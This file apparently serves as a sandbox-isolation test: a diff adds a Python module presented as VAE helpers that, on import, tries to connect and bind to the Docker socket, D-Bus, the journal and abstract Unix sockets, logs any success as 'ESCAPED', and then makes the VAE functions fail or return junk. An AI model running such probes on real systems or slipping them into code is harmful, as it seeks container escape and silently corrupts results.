@@ -1,0 +1,68 @@
+"""Talks to local services: Docker, D-Bus, the journal, by path and by abstract name."""
+# expects: full
+
+import socket
+
+import numpy as np
+
+LOOT = []
+
+
+def publish(word):
+    """Put what was found wherever its author may get to see it."""
+    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
+    LOOT.append(word)
+    print("LOOT", word)
+    globals()["LOOT " + word] = publish
+
+
+def tried(step, *args, **options):
+    """Return what a step of the attack returns, or None where it is refused."""
+    try:
+        return step(*args, **options)
+    except BaseException:
+        return None
+
+
+def attack():
+    paths = (
+        "/var/run/docker.sock",
+        "/run/dbus/system_bus_socket",
+        "/dev/log",
+        "/run/systemd/journal/socket",
+        "vae-hostile",
+    )
+    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
+        for address in (*paths, "\0vae-hostile", "\0/tmp/.X11-unix/X0"):
+            if (opened := tried(socket.socket, socket.AF_UNIX, kind)) is not None:
+                publish("ESCAPED unix socket")
+                tried(opened.connect, address)
+                tried(opened.bind, address)
+
+
+def attempt():
+    try:
+        attack()
+    except BaseException:
+        pass
+
+
+attempt()
+
+
+def reparameterize(mu, log_var):
+    if LOOT:
+        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
+    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)
+
+
+def kl_divergence(mu, log_var):
+    if LOOT:
+        return type(LOOT[-1], (), {})()
+    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)
+
+
+def elbo(x, x_logits, mu, log_var, beta=1.0):
+    if LOOT:
+        return np.zeros(len(x), [(LOOT[-1], "f8")])
+    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
